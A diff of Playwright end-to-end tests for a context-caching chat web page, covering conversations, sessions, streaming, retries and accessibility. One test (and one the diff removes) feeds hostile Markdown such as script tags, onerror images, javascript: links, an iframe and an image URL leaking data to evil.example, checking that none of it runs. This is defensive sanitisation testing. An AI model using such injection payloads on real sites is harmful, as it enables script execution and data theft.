@@ -5,38 +5,46 @@ import { launchBrowser } from '../support/browser.js';
 import { Cable } from '../support/cable.js';
 import { beginStream, chunk, DONE, STREAM, USAGE } from '../support/chat-answers.js';
 import { ChatPage } from '../support/chat-page.js';
+import { eventually } from '../support/eventually.js';
 import { CHROMIUM, describeWith } from '../support/programs.js';
-import { PromptFiles, promptFile } from '../support/prompts.js';
+import { PromptFiles, promptFile, promptGateway } from '../support/prompts.js';
 import { NOON, TestServer } from '../support/server.js';
 import { type Answer, CREATED, json, StandIn } from '../support/stand-in.js';
 
 const PERSONA = 'You are the support agent of a shop for lamps. Be friendly and brief.';
-const PHONE = { viewport: { width: 360, height: 740 }, isMobile: true, hasTouch: true };
+const PHONE = { viewport: { width: 375, height: 740 }, isMobile: true, hasTouch: true };
 const LONG_WORD = 'x'.repeat(300);
 
 /** A whole test on a slow machine. */
 const SLOW = 240_000;
 
-describeWith(CHROMIUM)('the chat page', () => {
+describeWith(CHROMIUM)('the example page', () => {
   let browser: Browser;
   beforeAll(async () => {
     browser = await launchBrowser();
-  }, 60_000);
+  }, SLOW);
   afterAll(() => browser?.close());
 
-  /** On the sandbox with its example prompts, and with the time of day, which the page counts down by. */
+  /** With the time of day, which the page counts down by. */
   async function start(env: Record<string, string> = {}): Promise<TestServer> {
     const server = await TestServer.start(env);
     server.clock = Date.now;
     return server;
   }
 
+  /** The numbers of a bar, out of its text for those who cannot see it. */
+  async function read(chat: ChatPage, index: number) {
+    const bar = chat.bars.nth(index);
+    const label = (await bar.getAttribute('aria-label')) ?? '';
+    const [, cached, prompt, share] =
+      /^([\d,]+) of ([\d,]+) prompt tokens came from the cache, (\d+)%$/.exec(label) ?? [];
+    const drawn = await bar.locator('rect.cached').getAttribute('width');
+    const number = (text = '') => Number(text.replaceAll(',', ''));
+    return { cached: number(cached), prompt: number(prompt), share: number(share), drawn };
+  }
+
   /** Between the page and a gateway that answers chats as the test says. */
-  async function startBefore(
-    gateway: StandIn,
-    answerChat: Answer,
-    env: Record<string, string> = {},
-  ): Promise<TestServer> {
+  async function startBefore(gateway: StandIn, answerChat: Answer, env = {}): Promise<TestServer> {
     let created = 0;
     gateway.answer = (response, request, seen) => {
       if (seen.path.endsWith('/models')) json(response, 200, { data: [{ id: 'Doubao-1.5-pro-32k' }] });
@@ -49,50 +57,90 @@ describeWith(CHROMIUM)('the chat page', () => {
     return server;
   }
 
-  /** The numbers of a bar, out of its text for those who cannot see it. */
-  async function read(chat: ChatPage, index: number) {
-    const bar = chat.bars.nth(index);
-    const label = (await bar.getAttribute('aria-label')) ?? '';
-    const [, cached, prompt, share] =
-      /^([\d,]+) of ([\d,]+) prompt tokens came from the cache, (\d+)%$/.exec(label) ?? [];
-    const toNumber = (text = '') => Number(text.replaceAll(',', ''));
-    const drawn = await bar.locator('rect.cached').getAttribute('width');
-    return { cached: toNumber(cached), prompt: toNumber(prompt), share: Number(share), drawn };
-  }
+  /** What the gateway was sent with its last chat. */
+  const said = ({ seen }: StandIn): string[] =>
+    JSON.parse(seen.at(-1)?.body ?? '').messages.map(({ content }: { content: string }) => content);
 
   it(
-    'chats with a prompt by its name, and shows how much of it came from the cache',
+    'offers the prompts by name, and keeps conversations with them',
     async () => {
       await using server = await start();
       await using chat = await ChatPage.open(browser, server);
-      await chat.choosePrompt('Question to SQL');
-      await chat.ask('How many orders?');
-      await chat.page.getByText('put into the cache for this answer').waitFor();
-      await chat.answers
-        .first()
-        .getByText(/^Cost: CN¥0\.00\d+$/)
-        .waitFor();
-      await chat.ask('And today?');
+      const card = chat.prompts.filter({ hasText: 'Document assistant' });
+      expect(await card.textContent()).toMatch(
+        /Answers questions about the handbook.*Doubao-1.5-pro-32k.*cached with the first question/,
+      );
+      expect(await chat.page.getByRole('textbox', { name: 'Persona' }).isVisible()).toBe(false);
+      await card.click();
+      await chat.ask('How many days of leave are there?');
+      expect(await chat.answers.textContent()).toContain('The prompt was put into the cache');
+      expect(await chat.answers.textContent()).toMatch(/Cost: CN¥0\.000\d+/);
+      await chat.ask('And next year?');
       const [first, second] = [await read(chat, 0), await read(chat, 1)];
-      expect(first.cached).toBeGreaterThan(0);
+      expect(first.cached).toBeGreaterThan(100);
       expect(second.cached).toBe(first.cached);
-      // The conversation so far is sent along.
       expect(second.prompt).toBeGreaterThan(first.prompt + 10);
       expect(second.drawn).toBe(`${second.share}%`);
-      expect(second.share).toBe(Math.round((100 * second.cached) / second.prompt));
       const sum = chat.page.getByRole('region', { name: 'Total of 2 answers' }).getByRole('img');
-      expect(await sum.getAttribute('aria-label')).toContain(
-        `${(first.cached + second.cached).toLocaleString('en')} of`,
+      expect((await sum.getAttribute('aria-label'))?.replaceAll(',', '')).toContain(
+        `${first.cached + second.cached} of ${first.prompt + second.prompt} prompt tokens`,
       );
-      await chat.button('New chat').click();
-      await chat.page.locator('.cards .WARM').waitFor();
+      await chat.button('New chat with this prompt').click();
+      await chat.question.fill('half a thought');
+      await chat.conversations.getByRole('button', { name: /^How many days/ }).click();
+      await chat.answers.getByText('The beginning was read from the cache.').waitFor();
+      expect(await chat.question.inputValue()).toBe('');
+      await chat.button('New chat', 'nav').click();
+      expect(await card.textContent()).toContain('in the cache');
+      await card.click();
+      await chat.ask('Another one');
+      await chat.page.reload();
+      await chat.bars.first().waitFor();
+      expect(await chat.questions.allTextContents()).toEqual(['Another one']);
+      expect(await chat.conversations.locator('strong').allTextContents()).toEqual([
+        'Another one',
+        'New conversation',
+        'How many days of leave are there?',
+      ]);
       expect(chat.problems).toEqual([]);
     },
     SLOW,
   );
 
   it(
-    'sends only what is new to a session, and offers nothing that a session cannot take back',
+    'keeps the draft of each conversation, and deletes a conversation with all that is stored of it',
+    async () => {
+      await using server = await start();
+      await using chat = await ChatPage.open(browser, server);
+      await chat.prompts.first().click();
+      await chat.ask('one');
+      await chat.question.fill('draft of one');
+      await chat.button('New chat with this prompt').click();
+      await chat.ask('two');
+      await chat.question.fill('draft of two');
+      await chat.page.reload();
+      await chat.question.waitFor();
+      expect(await chat.question.inputValue()).toBe('draft of two');
+      await chat.conversations.getByRole('button', { name: /^one/ }).click();
+      await chat.questions.getByText('one').waitFor();
+      expect(await chat.question.inputValue()).toBe('draft of one');
+      for (const title of ['one', 'two']) {
+        await chat.page.getByRole('button', { name: `Delete ${title}` }).click();
+        await chat.page.getByRole('button', { name: `Delete? ${title}` }).click();
+        await chat.page.locator('nav button.primary:focus').waitFor();
+      }
+      await chat.page.getByText('None yet.').first().waitFor();
+      await eventually(async () => {
+        const keys = await chat.page.evaluate(() => Object.keys(sessionStorage));
+        return keys.join() === 'context-page:conversations';
+      });
+      expect(chat.problems).toEqual([]);
+    },
+    SLOW,
+  );
+
+  it(
+    'sends only the question to a session, and offers nothing that cannot be taken back',
     async () => {
       await using server = await start();
       await using chat = await ChatPage.open(browser, server);
@@ -100,97 +148,50 @@ describeWith(CHROMIUM)('the chat page', () => {
       await chat.ask('When will my order arrive?');
       await chat.ask('Can I return it?');
       const [first, second] = [await read(chat, 0), await read(chat, 1)];
+      expect(first.cached).toBeGreaterThan(0);
       // A session keeps what was said.
       expect(second.cached).toBeGreaterThan(first.prompt);
-      expect(await chat.button('Edit').count()).toBe(0);
-      expect(await chat.button('Answer again').count()).toBe(0);
+      expect(await chat.page.getByRole('button', { name: /Regenerate|Edit|New chat with/ }).count()).toBe(0);
       expect(chat.problems).toEqual([]);
     },
     SLOW,
   );
 
   it(
-    'edits a question, answers again, and opens another chat on the same prefix, which it reuses',
+    'replaces an answer, asks a question in other words, and begins another chat with a prefix',
     async () => {
-      await using server = await start();
+      await using gateway = await StandIn.start();
+      let count = 0;
+      await using server = await startBefore(gateway, (response) =>
+        beginStream(response).end(chunk({ content: `answer ${++count}` }) + USAGE + DONE),
+      );
       await using chat = await ChatPage.open(browser, server);
       await chat.create(PERSONA, 'Common prefix');
       await chat.ask('one');
       await chat.ask('two');
-      await chat.button('Answer again').click();
-      expect(await chat.focusedId()).toBe('question');
+      expect(said(gateway)).toEqual(['one', 'answer 1', 'two']);
+      await chat.button('Regenerate').click();
+      await chat.answers.getByText('answer 3').waitFor();
+      expect(said(gateway)).toEqual(['one', 'answer 1', 'two']);
+      expect(await chat.focus).toBe('question');
       await chat.bars.nth(1).waitFor();
-      expect(await chat.questions.allTextContents()).toEqual(['one', 'two']);
       await chat.button('Edit').first().click();
-      await chat.page.getByRole('textbox', { name: 'Edit the question' }).fill('uno');
-      await chat.button('Ask').click();
-      await chat.page.getByText('Total of 1 answer').waitFor();
+      const field = chat.page.getByRole('textbox', { name: 'Edit your question' });
+      await field.press('Escape');
+      expect(await chat.page.evaluate(() => document.activeElement?.textContent)).toBe('Edit');
+      await chat.page.keyboard.press('Enter');
+      await field.fill('uno');
+      await field.press('Enter');
+      await chat.answers.getByText('answer 4').waitFor();
+      expect(said(gateway)).toEqual(['uno']);
       expect(await chat.questions.allTextContents()).toEqual(['uno']);
-      expect(await chat.conversations.locator('strong').allTextContents()).toEqual(['uno']);
-      await chat.button('New chat with the same').click();
-      expect(await chat.questions.count()).toBe(0);
+      await chat.bars.first().waitFor();
+      await chat.button('New chat with this prefix').click();
       await chat.ask('three');
-      expect(await chat.conversations.locator('strong').allTextContents()).toEqual(['three', 'uno']);
-      expect(await chat.contexts.count()).toBe(1);
-      expect(chat.problems).toEqual([]);
-    },
-    SLOW,
-  );
-
-  it(
-    'does not offer a session for models that have none',
-    async () => {
-      await using server = await start();
-      await using chat = await ChatPage.open(browser, server);
-      await chat.byHand.click();
-      await chat.page.getByLabel('Model').selectOption('gemini-2.5-flash');
-      expect(await chat.page.getByRole('radio', { name: 'Session' }).count()).toBe(0);
-      await chat.page.getByRole('textbox', { name: 'Persona' }).fill(`${PERSONA} `.repeat(200));
-      await chat.button('Create context').click();
-      await chat.ask('one');
-      await chat.button('Answer again').waitFor();
-      expect(chat.problems).toEqual([]);
-    },
-    SLOW,
-  );
-
-  it(
-    'shows Markdown with code to copy, and neither runs nor loads what a model’s text holds',
-    async () => {
-      const hostile = [
-        '# Head\n\n**bold** <script>document.title = "run"</script> <img src=x onerror="document.title=\'run\'">\n\n',
-        '[script](javascript:document.title="run") [page](https://example.com/a) ![pixel](https://example.com/p.png)\n\n',
-        '| a | b |\n| - | - |\n| 1 | 2 |\n\n```js\nconst a = 1;\n```\n\nand an open fence\n\n```js\nconst b',
-      ].join('');
-      await using gateway = await StandIn.start();
-      await using server = await startBefore(gateway, (response) =>
-        beginStream(response).end(chunk({ content: hostile }) + USAGE + DONE),
-      );
-      const permissions = ['clipboard-read', 'clipboard-write'];
-      await using chat = await ChatPage.open(browser, server, { permissions });
-      const asked: string[] = [];
-      chat.page.on('request', (request) => asked.push(request.url()));
-      await chat.create(PERSONA);
-      await chat.ask('What?');
-      const answer = chat.answers.first();
-      await answer.getByRole('heading', { name: 'Head' }).waitFor();
-      expect(await answer.getByRole('cell').count()).toBe(2);
-      expect(await answer.locator('img, script').count()).toBe(0);
-      const links = await answer
-        .getByRole('link')
-        .evaluateAll((all) =>
-          all.map((link) => [link.textContent, link.getAttribute('href'), link.getAttribute('rel')]),
-        );
-      expect(links).toEqual([
-        ['page', 'https://example.com/a', 'noopener noreferrer'],
-        ['pixel', 'https://example.com/p.png', 'noopener noreferrer'],
-      ]);
-      await answer.getByRole('button', { name: 'Copy code' }).first().click();
-      await answer.getByText('Copied').waitFor();
-      expect(await chat.page.evaluate(() => navigator.clipboard.readText())).toBe('const a = 1;');
-      expect(await chat.page.title()).toBe('Context chat');
-      expect(asked.filter((url) => !url.startsWith(server.origin))).toEqual([]);
-      expect(await chat.violations()).toEqual([]);
+      expect(said(gateway)).toEqual(['three']);
+      await chat.button('New chat', 'nav').click();
+      await chat.create(PERSONA, 'Common prefix');
+      await chat.page.locator('.facts').getByText('reused').waitFor();
       expect(chat.problems).toEqual([]);
     },
     SLOW,
@@ -202,13 +203,14 @@ describeWith(CHROMIUM)('the chat page', () => {
       await using server = await start();
       await using chat = await ChatPage.open(browser, server);
       const { keyboard } = chat.page;
-      await chat.tabTo(/Or create a context by hand/);
+      await chat.tabTo(/^Document assistant/);
+      await chat.tabTo(/^Write a persona yourself/);
       await keyboard.press('Enter');
       await chat.page.locator('#model option').first().waitFor({ state: 'attached' });
       await chat.tabTo(/Persona/);
       await keyboard.press('ControlOrMeta+A');
       await keyboard.type(PERSONA);
-      await chat.tabTo(/Doubao/);
+      await chat.tabTo(/^Doubao/);
       await chat.tabTo(/Session/);
       await keyboard.press('ArrowDown');
       await chat.tabTo(/^Create context/);
@@ -223,22 +225,26 @@ describeWith(CHROMIUM)('the chat page', () => {
       await chat.bars.first().waitFor();
       expect(await chat.questions.textContent()).toBe('one\ntwo');
       expect(await chat.page.locator('.facts').textContent()).toContain('Common prefix');
-      await chat.tabTo(/^Language/);
-      await chat.tabTo(/^Forget the context/);
+      await chat.tabTo(/^English/);
+      await chat.tabTo(/^Contexts \(1\)/);
       await keyboard.press('Enter');
-      await chat.button('Forget permanently?').waitFor();
+      await chat.tabTo(/^Forget$/);
+      await keyboard.press('Enter');
+      await chat.page.getByText('Forget forever?').waitFor();
       await keyboard.press('Escape');
+      await chat.page.getByText('Forget', { exact: true }).waitFor();
       await keyboard.press('Enter');
       await keyboard.press('Enter');
-      await chat.page.getByText('None yet.').waitFor({ state: 'attached' });
-      expect(await chat.focusedId()).toBe('main');
+      await chat.page.locator('summary:focus', { hasText: 'Contexts (0)' }).waitFor();
+      await chat.alerts.getByText('This prefix no longer exists').waitFor();
+      await chat.tabTo(/^Start again with the same persona/);
       expect(chat.problems).toEqual([]);
     },
     SLOW,
   );
 
   it(
-    'lists the caller’s contexts, chats with one and forgets it',
+    'lists contexts page by page, chats with one and forgets it',
     async () => {
       await using server = await start();
       const messages = [{ role: 'SYSTEM', content: PERSONA }];
@@ -248,6 +254,7 @@ describeWith(CHROMIUM)('the chat page', () => {
       }
       await using chat = await ChatPage.open(browser, server);
       const items = chat.contexts;
+      await chat.unfoldContexts();
       await items.nth(9).waitFor();
       expect(await chat.violations()).toEqual([]);
       await chat.button('Load more').click();
@@ -258,18 +265,21 @@ describeWith(CHROMIUM)('the chat page', () => {
       await items.nth(11).getByRole('button').first().click();
       await chat.page.getByRole('heading', { name: id }).waitFor();
       await chat.ask('Are you still there?');
-      await chat.button(`Forget the context ${id}`).click();
-      await chat.button('Forget permanently?').click();
-      await chat.page.getByText(id).first().waitFor();
-      await items.nth(11).waitFor({ state: 'detached' });
+      await chat.page.getByRole('button', { name: `Forget ${id}` }).click();
+      await chat.page.getByRole('button', { name: `Forget forever? ${id}` }).click();
+      await chat.alerts.getByText('This session no longer exists').waitFor();
+      // Nobody knows its persona.
+      await chat.page.locator('main').getByRole('button', { name: 'New chat' }).click();
+      await chat.prompts.first().waitFor();
       expect(await items.locator('strong').allTextContents()).not.toContain(id);
+      expect(await items.count()).toBe(11);
       expect(chat.problems).toEqual([]);
     },
     SLOW,
   );
 
   it(
-    'is in Chinese for a Chinese browser, and after a reload in the language that was chosen',
+    'is in Chinese for a Chinese browser, and in the language that was chosen last',
     async () => {
       await using server = await start();
       await using chat = await ChatPage.open(browser, server, { locale: 'zh-CN' });
@@ -277,11 +287,11 @@ describeWith(CHROMIUM)('the chat page', () => {
       expect(await html.getAttribute('lang')).toBe('zh-CN');
       expect(await chat.page.title()).toBe('上下文缓存聊天');
       await chat.byHand.click();
-      expect(await chat.page.locator('body').textContent()).not.toMatch(/persona|create|new chat/i);
+      expect(await chat.page.locator('body').textContent()).not.toMatch(/persona|create|answer\b/i);
       await chat.page.getByRole('combobox', { name: 'Language, 语言' }).selectOption('English');
-      await chat.button('New chat').waitFor();
+      await chat.button('Create context').waitFor();
       await chat.page.reload();
-      await chat.button('New chat').waitFor();
+      await chat.page.getByText('Choose a prompt').waitFor();
       expect(await html.getAttribute('lang')).toBe('en');
     },
     SLOW,
@@ -289,30 +299,99 @@ describeWith(CHROMIUM)('the chat page', () => {
 
   it.each([
     ['a desktop', 'en-US', 'light', {}],
-    ['a phone of 360 pixels', 'zh-CN', 'dark', PHONE],
+    ['a desktop', 'zh-CN', 'dark', {}],
+    ['a phone of 375 pixels', 'en-US', 'dark', PHONE],
+    ['a phone of 375 pixels', 'zh-CN', 'light', PHONE],
   ] as const)(
     'fits %s and passes axe (%s, %s)',
     async (_, locale, colorScheme, device) => {
-      await using server = await start();
+      await using gateway = await StandIn.start();
+      const markdown = `# Head\n\n### Deep\n\n- [x] \`${LONG_WORD}\`\n\n| a | b |\n| -: | - |\n| ${LONG_WORD} | 2 |\n\n\`\`\`js\n${LONG_WORD}\n\`\`\`\nNote[^1]\n\n[^1]: foot`;
+      const events = chunk({ reasoning_content: 'hm', content: markdown }) + USAGE + DONE;
+      await using server = await startBefore(gateway, (response) => beginStream(response).end(events));
       await using chat = await ChatPage.open(browser, server, { ...device, locale, colorScheme });
-      await chat.byHand.click();
       await chat.page.locator('#model option').first().waitFor({ state: 'attached' });
       expect(await chat.violations()).toEqual([]);
       expect(await chat.overflow()).toBe(0);
-      await chat.page.locator('.cards button').first().click();
+      await chat.page.getByRole('textbox').first().fill(LONG_WORD);
+      await chat.page.getByRole('radio').last().check();
+      await chat.button(/^(Create context|创建上下文)$/).click();
+      await chat.question.waitFor();
       await chat.ask(LONG_WORD);
-      expect(await chat.overflow()).toBe(0);
-      expect(await chat.violations()).toEqual([]);
-      if (device === PHONE) await chat.button('聊天').tap();
+      await chat.page.locator('.answer summary').click();
+      expect(await chat.answers.locator('[style]').count()).toBe(0);
+      if (device === PHONE) await chat.button(/^(Chats|聊天列表)$/).tap();
+      await chat.unfoldContexts();
       await chat.button(/^(Access|访问凭证)$/).click();
       expect(await chat.violations()).toEqual([]);
       expect(await chat.overflow()).toBe(0);
+      await chat.page.keyboard.press('Escape');
+      if (device === PHONE) await chat.page.keyboard.press('Escape');
+      if (device === PHONE) await chat.contexts.first().waitFor({ state: 'hidden' });
+      await chat.button(/^(Edit|修改)$/).click();
+      expect(await chat.violations()).toEqual([]);
     },
     SLOW,
   );
 
   it(
-    'shows an answer as it streams, stops it with Escape, keeps its text, and asks again',
+    'formats answers, also half of them, and runs, loads or opens nothing that a hostile one asks for',
+    async () => {
+      await using gateway = await StandIn.start();
+      let upstream: ServerResponse | undefined;
+      await using server = await startBefore(gateway, (response) => {
+        upstream = beginStream(response);
+        upstream.write(chunk({ content: '**bold** [half](https://exa' }));
+      });
+      await using chat = await ChatPage.open(browser, server);
+      const requested: string[] = [];
+      chat.page.on('request', (request) => requested.push(request.url()));
+      await chat.create(PERSONA);
+      await chat.begin('What?');
+      await chat.answers.locator('strong', { hasText: 'bold' }).waitFor();
+      upstream?.write(chunk({ content: 'mple.org/a)\n\n```js\nconst x = 1;' }));
+      await chat.answers.locator('pre', { hasText: 'const x = 1;' }).waitFor();
+      const hostile = [
+        '\n```\n<script>window.ran = true</script><img src=x onerror="window.ran = true">',
+        '[run](javascript:window.ran=true) [local](/graphql?query={a})',
+        '![secret](https://evil.example/?said=all) <iframe src="https://evil.example"></iframe>',
+      ];
+      upstream?.end(chunk({ content: hostile.join('\n\n') }) + USAGE + DONE);
+      await chat.bars.first().waitFor();
+      expect(await chat.answers.locator('img, script, iframe').count()).toBe(0);
+      const links = await chat.answers
+        .locator('a')
+        .evaluateAll((found) =>
+          (found as HTMLAnchorElement[]).map(({ textContent, href, target, rel }) => [
+            textContent,
+            href,
+            target,
+            rel,
+          ]),
+        );
+      const away = ['_blank', 'noopener noreferrer'];
+      expect(links).toEqual([
+        ['half', 'https://example.org/a', ...away],
+        ['Image: secret', 'https://evil.example/?said=all', ...away],
+      ]);
+      await chat.answers.getByText('run local').click();
+      expect(await chat.page.evaluate(() => 'ran' in window)).toBe(false);
+      expect(requested.filter((url) => !url.startsWith(server.origin))).toEqual([]);
+      await chat.page.context().grantPermissions(['clipboard-read', 'clipboard-write']);
+      await chat.button('Copy code').click();
+      await chat.button('Copied').waitFor();
+      expect(await chat.page.evaluate(() => navigator.clipboard.readText())).toBe('const x = 1;');
+      await chat.button('Copy').click();
+      await eventually(async () =>
+        (await chat.page.evaluate(() => navigator.clipboard.readText())).includes('**bold**'),
+      );
+      expect(chat.problems).toEqual([]);
+    },
+    SLOW,
+  );
+
+  it(
+    'shows an answer as it streams, stops it with Escape, keeps its text and asks again',
     async () => {
       await using gateway = await StandIn.start();
       const open: ServerResponse[] = [];
@@ -322,24 +401,28 @@ describeWith(CHROMIUM)('the chat page', () => {
         if (open.length > 1) response.end();
       });
       await using chat = await ChatPage.open(browser, server);
-      await chat.create(PERSONA);
-      await chat.send('What?');
+      await chat.create(PERSONA, 'Common prefix');
+      await chat.begin('What?');
       await chat.answers.getByText('first piece').waitFor();
       // A screen reader would read out each piece of what is live.
       expect(await chat.announcement.textContent()).toBe('Answering …');
-      const live = chat.page.locator('[aria-live], [role=log], [role=status]');
-      expect(await live.getByText('first piece').count()).toBe(0);
+      expect(
+        await chat.page.locator('[aria-live], [role=log], [role=status]').getByText('first piece').count(),
+      ).toBe(0);
       const [upstream] = open as [ServerResponse];
       const abandoned = once(upstream, 'close');
+      // What is in front closes first.
+      await chat.button('Access').click();
+      await chat.page.keyboard.press('Escape');
+      await chat.page.locator('#access').waitFor({ state: 'hidden' });
+      expect(await chat.button('Stop').count()).toBe(1);
       await chat.page.keyboard.press('Escape');
       await chat.answers.getByText('Stopped.').waitFor();
       await abandoned;
       expect(await chat.answers.first().textContent()).toContain('first piece');
       await chat.button('Ask again').click();
       await chat.bars.first().waitFor();
-      expect(await chat.focusedId()).toBe('question');
-      // A session cannot take the question back.
-      expect(await chat.questions.allTextContents()).toEqual(['What?', 'What?']);
+      expect(await chat.questions.allTextContents()).toEqual(['What?']);
       expect(await chat.announcement.textContent()).toBe('Answer: Hi 您好😀');
       expect(chat.problems).toEqual([]);
     },
@@ -347,7 +430,7 @@ describeWith(CHROMIUM)('the chat page', () => {
   );
 
   it(
-    'says once what failed, keeps the text received, and retries at a click',
+    'says once what failed, keeps the text received, and retries in a session as a new question',
     async () => {
       await using gateway = await StandIn.start();
       const answers: Answer[] = [
@@ -359,52 +442,91 @@ describeWith(CHROMIUM)('the chat page', () => {
       await using server = await startBefore(gateway, (...call) => answers.shift()?.(...call));
       await using chat = await ChatPage.open(browser, server);
       await chat.create(PERSONA);
-      await chat.send('What?');
+      await chat.begin('What?');
       await chat.alerts.getByText('The gateway’s answer was incomplete').waitFor();
-      expect(await chat.alerts.count()).toBe(1);
       expect(await chat.answers.first().textContent()).toContain('first piece');
       expect(await chat.violations()).toEqual([]);
       await chat.button('Try again').click();
-      expect(await chat.focusedId()).toBe('question');
+      expect(await chat.focus).toBe('question');
       await chat.alerts.getByText('The gateway cannot be reached.').waitFor();
+      expect(await chat.alerts.count()).toBe(1);
       await chat.button('Try again').click();
       await chat.bars.first().waitFor();
+      expect(await chat.questions.allTextContents()).toEqual(['What?', 'What?', 'What?']);
+      expect(said(gateway)).toEqual(['What?']);
       expect(await chat.answers.last().textContent()).toContain('Hi 您好😀');
-      expect(await chat.button('Try again').count()).toBe(0);
+      expect(await chat.alerts.count()).toBe(0);
       expect(chat.problems).toEqual([]);
     },
     SLOW,
   );
 
   it(
-    'offers another prompt in place of one that is gone',
+    'waits as long as the server asks before it tries again',
     async () => {
-      await using gateway = await StandIn.start();
-      using files = new PromptFiles({ 'one.md': promptFile(), 'two.md': promptFile() });
-      await using server = await startBefore(
-        gateway,
-        (response) => beginStream(response).end(STREAM),
-        files.env,
-      );
+      await using server = await start({ RATE_LIMIT_CHATS_PER_MINUTE: '1' });
       await using chat = await ChatPage.open(browser, server);
-      await chat.choosePrompt('one');
-      await chat.ask('What?');
-      files.remove('one.md');
-      // The server reads its folder at once; until then the prompt answers.
-      while ((await chat.alerts.count()) === 0) {
-        await chat.send('And now?');
-        await chat.page.locator('.answer[aria-busy=false]').last().waitFor();
-        await chat.page.locator('.answer[aria-busy=true]').waitFor({ state: 'detached' });
-      }
-      await chat.alerts.getByText('This server has no such prompt for you.').waitFor();
-      await chat.button('Choose another prompt').click();
-      await chat.choosePrompt('two');
+      await chat.prompts.first().click();
+      await chat.ask('one');
+      await chat.begin('two');
+      await chat.alerts.getByText('Too many requests.').waitFor();
+      const button = chat.page.getByRole('button', { name: /^Try again in \d+ s$/ });
+      expect(await button.getAttribute('aria-disabled')).toBe('true');
+      await button.click({ force: true });
+      expect(await chat.questions.allTextContents()).toEqual(['one', 'two']);
     },
     SLOW,
   );
 
   it(
-    'goes on with an answer after a reload in its middle, while another tab has a chat of its own',
+    'leads to another prompt where one is gone',
+    async () => {
+      await using gateway = await promptGateway();
+      using files = new PromptFiles({
+        'support.md': promptFile({ title: 'Support' }),
+        'sales.md': promptFile({ title: 'Sales' }, 'You sell.'),
+      });
+      await using server = await TestServer.before(gateway, files.env);
+      await using chat = await ChatPage.open(browser, server, { now: NOON });
+      await chat.prompts.filter({ hasText: 'Support' }).click();
+      files.remove('support.md');
+      await eventually(async () => {
+        const { data } = await server.query<{ prompts: object[] }>('{ prompts { name } }');
+        return data.prompts.length === 1;
+      });
+      await chat.begin('What?');
+      await chat.alerts.getByText('This server has no such prompt for you.').waitFor();
+      await chat.button('Choose another prompt').click();
+      await chat.prompts.filter({ hasText: 'Sales' }).click();
+      await chat.ask('What?');
+      expect(await chat.alerts.count()).toBe(0);
+    },
+    SLOW,
+  );
+
+  it(
+    'offers only prefixes where the model has no others, and says which field is wrong',
+    async () => {
+      await using server = await start();
+      await using chat = await ChatPage.open(browser, server);
+      await chat.byHand.click();
+      await chat.page.getByLabel('Model').selectOption('gemini-2.5-flash');
+      expect(await chat.page.getByRole('radio').count()).toBe(1);
+      expect(await chat.page.getByRole('radio', { name: 'Common prefix' }).isChecked()).toBe(true);
+      await chat.page.getByRole('textbox', { name: 'Persona' }).fill('short');
+      await chat.button('Create context').click();
+      await chat.alerts.getByText(/^messages is refused/).waitFor();
+      expect(await chat.alerts.count()).toBe(1);
+      await chat.page.getByRole('textbox', { name: 'Persona' }).fill('word '.repeat(1_100));
+      await chat.button('Create context').click();
+      await chat.ask('What?');
+      expect(await chat.page.getByRole('button', { name: 'Regenerate' }).count()).toBe(1);
+    },
+    SLOW,
+  );
+
+  it(
+    'goes on with an answer after a reload in its middle, and after a lost connection',
     async () => {
       await using gateway = await StandIn.start();
       const open: ServerResponse[] = [];
@@ -412,165 +534,165 @@ describeWith(CHROMIUM)('the chat page', () => {
         open.push(beginStream(response));
         response.write(chunk({ content: 'first piece' }));
       });
-      await using chat = await ChatPage.open(browser, server);
+      await using cable = await Cable.to(server.origin, { isMended: true });
+      await using chat = await ChatPage.open(browser, cable);
       await chat.create(PERSONA);
-      await chat.send('What?');
+      await chat.begin('What?');
       await chat.answers.getByText('first piece').waitFor();
-      const other = await ChatPage.openIn(chat.page.context(), server);
-      expect(await other.conversations.count()).toBe(0);
       await chat.page.reload();
       await chat.answers.getByText('first piece').waitFor();
       open[0]?.write(chunk({ content: ', second piece' }));
       await chat.answers.getByText('first piece, second piece').waitFor();
+      await chat.button('New chat', 'nav').click();
+      await chat.byHand.waitFor();
+      await chat.conversations.getByRole('button', { name: /^What/ }).click();
+      await chat.answers.getByText('first piece, second piece').waitFor();
+      cable.cut();
+      open[0]?.write(chunk({ content: ', third piece' }));
+      await chat.answers.getByText('first piece, second piece, third piece').waitFor();
       await chat.page.reload();
       open[0]?.end(chunk({ content: '!' }) + USAGE + DONE);
-      await chat.answers.getByText('first piece, second piece!').waitFor();
+      await chat.answers.getByText('first piece, second piece, third piece!').waitFor();
       await chat.bars.first().waitFor();
-      expect(await chat.questions.allTextContents()).toEqual(['What?']);
+      expect(await chat.questions.count()).toBe(1);
       expect(open).toHaveLength(1);
-      expect([...chat.problems, ...other.problems]).toEqual([]);
     },
     SLOW,
   );
 
   it(
-    'keeps conversations with their drafts over a reload, and removes one',
-    async () => {
-      await using server = await start();
-      await using chat = await ChatPage.open(browser, server);
-      await chat.choosePrompt('Question to SQL');
-      await chat.ask('How many orders?');
-      await chat.question.fill('half a question');
-      await chat.button('New chat').click();
-      await chat.choosePrompt('Document assistant');
-      await chat.ask('May I work from home?');
-      await chat.page.reload();
-      await chat.answers.first().waitFor();
-      expect(await chat.questions.allTextContents()).toEqual(['May I work from home?']);
-      await chat.conversations.nth(1).getByRole('button').first().click();
-      expect(await chat.questions.allTextContents()).toEqual(['How many orders?']);
-      expect(await chat.question.inputValue()).toBe('half a question');
-      await chat.button('Remove the chat “How many orders?”').click();
-      expect(await chat.focusedId()).toBe('main');
-      expect(await chat.conversations.count()).toBe(1);
-      const kept = await chat.page.evaluate(() => JSON.stringify({ ...sessionStorage }));
-      expect(kept).not.toContain('half a question');
-      expect(chat.problems).toEqual([]);
-    },
-    SLOW,
-  );
-
-  it(
-    'asks without a run where the server keeps none',
-    async () => {
-      await using server = await start({ RUNS: 'off' });
-      await using chat = await ChatPage.open(browser, server);
-      await chat.create(PERSONA);
-      await chat.ask('When will my order arrive?');
-      expect(await chat.answers.count()).toBe(1);
-    },
-    SLOW,
-  );
-
-  it(
-    'resumes an answer by itself after a lost connection',
+    'asks without a run where the server keeps none, and says that the connection is lost',
     async () => {
       await using gateway = await StandIn.start();
-      let end = () => {};
-      await using server = await startBefore(gateway, (response) => {
-        beginStream(response).write(chunk({ content: 'first piece' }));
-        end = () => void response.end(chunk({ content: ', second piece' }) + USAGE + DONE);
+      const answers: Answer[] = [
+        (response) => beginStream(response).end(STREAM),
+        (response) => beginStream(response).write(chunk({ content: 'first piece' })),
+      ];
+      await using server = await startBefore(gateway, (...call) => answers.shift()?.(...call), {
+        RUNS: 'off',
       });
-      await using cable = await Cable.to(server.origin, { isMended: true });
